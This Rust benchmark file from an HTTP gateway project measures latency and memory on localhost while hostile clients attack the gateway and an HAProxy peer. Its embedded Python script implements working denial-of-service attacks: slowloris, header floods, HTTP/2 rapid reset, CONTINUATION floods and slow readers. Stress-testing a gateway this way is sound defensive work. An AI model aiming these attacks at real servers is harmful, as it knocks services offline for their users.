//! What others notice of hostile clients: their p99 beside each attack, next to their p99 just before it, and the
//! memory that the attack cost. Numbers, never verdicts: that each attack is refused or bounded, with its event,
//! is what the tests of the gateway show (`slow.rs`, `h2_bounds.rs`).
//!
//! Client, server, attacker and gateway share this machine, so an attack also costs what the attacker's own
//! process and the kernel take from the others: the slow attack is therefore made twice, at the gateway and at a
//! listener beside it that accepts and never reads. What is the gateway's is the difference.

use super::super::row;
use super::clients;
use super::cost::rss;
use super::peers::edge;
use super::slow::huge_server;
use crate::XtaskError;
use countersign_testkit::servers::Server;
use countersign_testkit::{Child, ensure_program, free_port, http2, proxies, servers, wait_for_port};
use std::net::{SocketAddr, TcpListener};
use std::os::unix::net::UnixDatagram;
use std::path::Path;
use std::process::Command;
use std::thread::JoinHandle;
use std::time::Duration;

/// Requests a second of the others: far below what the gateway can do.
const RATE: f64 = 1_000.0;
/// How long each is measured.
const LENGTH: Duration = Duration::from_secs(4);
/// Result that nobody reads, bytes.
const HUGE: u64 = 1 << 30;
/// Connections of the slow attack.
const SLOW: u32 = 10_000;
/// The same at HAProxy, which wants two descriptors for each, more than many machines give.
const SLOW_PEER: u32 = 8_500;

/// The attackers: a name, and `host port n`. Says `on` once it is under way.
const ATTACK: &str = r#"
import socket, struct, sys, time
mode, host, port, n = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
def dial():
    s = socket.create_connection((host, port)); s.settimeout(5); return s
def frame(kind, flags, stream, payload=b''):
    return struct.pack('>I', len(payload))[1:] + bytes([kind, flags]) + struct.pack('>I', stream) + payload
def block(*fields):
    return b''.join(b'\0' + bytes([len(a)]) + a + bytes([len(b)]) + b for a, b in fields)
def get(path): return block((b':method', b'GET'), (b':scheme', b'http'), (b':authority', b'a'), (b':path', path))
START = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(4, 0, 0)
def flood(data):
    first = True
    while True:
        try:
            s = dial()
            s.sendall(data)
            while s.recv(65536): pass
        except OSError: pass
        if first: print('on', flush=True); first = False
        s.close(); time.sleep(0.01)
def hold(s):
    print('on', flush=True); time.sleep(1000)
if mode == 'nothing': hold(None)
if mode == 'slowloris':
    held = [dial() for _ in range(n)]
    for s in held: s.send(b'GET /slow HTTP/1.1\r\nHost: a\r\n')
    print('on', flush=True)
    while True:
        time.sleep(0.5)
        for s in held:
            try: s.send(b'X: y\r\n')
            except OSError: pass
if mode == 'headers': flood(b'GET / HTTP/1.1\r\nHost: a\r\n' + b'A: b\r\n' * 5000 + b'\r\n')
if mode == 'reset':
    flood(START + b''.join(frame(1, 5, 2*i+1, get(b'/1k.txt')) + frame(3, 0, 2*i+1, struct.pack('>I', 8)) for i in range(300)))
if mode == 'continuation':
    flood(START + frame(1, 1, 1, get(b'/')) + frame(9, 0, 1, block((b'x-a', b'b'))) * 64)
if mode == 'reader':
    s = dial(); s.sendall(b'GET /huge HTTP/1.1\r\nHost: a\r\n\r\n'); hold(s)
if mode == 'reader2':
    s = dial()
    s.sendall(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(4, 0, 0, struct.pack('>HI', 4, 0x7fffffff)) + frame(8, 0, 0, struct.pack('>I', 0x7f000000)) + frame(1, 5, 1, get(b'/big')))
    hold(s)
"#;

/// What is attacked.
#[derive(Clone, Copy)]
enum Target {
    Http1,
    Http2,
    Huge,
    /// Not the gateway.
    Beside,
}

const CASES: [(&str, &str, Target); 8] = [
    ("nobody", "nothing", Target::Http1),
    ("slowloris beside the gateway, not at it", "slowloris", Target::Beside),
    ("slowloris, 10,000 connections", "slowloris", Target::Http1),
    ("header floods", "headers", Target::Http1),
    ("rapid reset", "reset", Target::Http2),
    ("CONTINUATION flood", "continuation", Target::Http2),
    ("1 GiB that nobody reads, HTTP/1.1", "reader", Target::Huge),
    ("1 GiB that nobody reads, HTTP/2", "reader2", Target::Http2),
];

pub(super) fn run(home: &Path) -> Result<(), XtaskError> {
    let (backend, h2) = (servers::nginx()?, http2::nginx_h2(HUGE)?);
    let (huge, beside) = (huge_server()?, deaf_server()?);
    let address = || free_port().map(|port| SocketAddr::from(([127, 0, 0, 1], port)));
    let (http1, http2, slow) = (address()?, address()?, address()?);
    let listeners = [
        format!("http1,{http1},{}", backend.address),
        format!("http2,{http2},{}", h2.address),
        format!("http1,{slow},{huge}"),
    ];
    let mut child = edge(home, "hostile", &listeners)?;
    wait_for_port(http1, Duration::from_secs(20))?;
    println!(
        "others' p99 at {RATE:.0} requests a second, calm and beside a hostile client (goal: below 2 times)"
    );
    // The first to hold so many connections also pays for memory that this machine never touched: not only we.
    let (mut peer, _log) = peer(home, backend.address)?;
    let name = "HAProxy: slowloris, 8,500 connections";
    case(home, name, ("slowloris", SLOW_PEER), (peer.address, peer.address), peer.child.id())?;
    peer.child.kill();
    for (name, mode, target) in CASES {
        let to = match target {
            Target::Http1 => http1,
            Target::Http2 => http2,
            Target::Huge => slow,
            Target::Beside => beside,
        };
        case(home, name, (mode, SLOW), (to, http1), child.id())?;
    }
    child.kill();
    Ok(())
}

/// Others' p99 at `others`, calm and then while `mode` attacks `to` with `n` connections, and what the process `of` grew by.
fn case(
    home: &Path,
    name: &str,
    (mode, n): (&str, u32),
    (to, others): (SocketAddr, SocketAddr),
    of: u32,
) -> Result<(), XtaskError> {
    let calm = clients::open_loop(others, RATE, LENGTH)?.p99();
    let before = rss(of);
    let mut attack = attack(home, (mode, n), to)?;
    let beside = clients::open_loop(others, RATE, LENGTH)?.p99();
    let grew = rss(of).saturating_sub(before) >> 10;
    attack.kill();
    let text = format!("{calm:.0} µs, {beside:.0} µs, {:.2} times, +{grew} KiB", beside / calm);
    row(name, &text, "2 times");
    std::thread::sleep(Duration::from_millis(500));
    Ok(())
}

/// HAProxy under the same attack, and who takes its log: what this machine gives a proxy that others trust.
fn peer(home: &Path, upstream: SocketAddr) -> Result<(Server, JoinHandle<()>), XtaskError> {
    let failed = |error| XtaskError::Io("the socket of HAProxy's log".into(), error);
    let path = home.join("haproxy.log.sock");
    let log = UnixDatagram::bind(&path).map_err(failed)?;
    let reader = std::thread::spawn(move || {
        let mut line = [0; 4096];
        while log.recv(&mut line).is_ok() {}
    });
    Ok((proxies::haproxy(upstream, &path)?, reader))
}

/// Accepts as many connections as the slow attack makes, and never reads.
fn deaf_server() -> Result<SocketAddr, XtaskError> {
    let failed = |error| XtaskError::Io("the listener that never reads".into(), error);
    let listener = TcpListener::bind("127.0.0.1:0").map_err(failed)?;
    let address = listener.local_addr().map_err(failed)?;
    std::thread::spawn(move || {
        let held: Vec<_> = listener.incoming().take(SLOW as usize).collect();
        std::thread::sleep(Duration::from_secs(3600));
        drop(held);
    });
    Ok(address)
}

fn attack(home: &Path, (mode, n): (&str, u32), to: SocketAddr) -> Result<Child, XtaskError> {
    let file = home.join("attack.py");
    std::fs::write(&file, ATTACK).map_err(|error| XtaskError::Io("writing a script".into(), error))?;
    let mut command = Command::new(ensure_program("python3", "python3")?);
    command.arg(file).arg(mode).args([to.ip().to_string(), to.port().to_string(), n.to_string()]);
    let mut child = Child::start(command, &home.join(format!("attack-{mode}.log")))?;
    child.wait_for_line("on", Duration::from_secs(120))?;
    Ok(child)
}
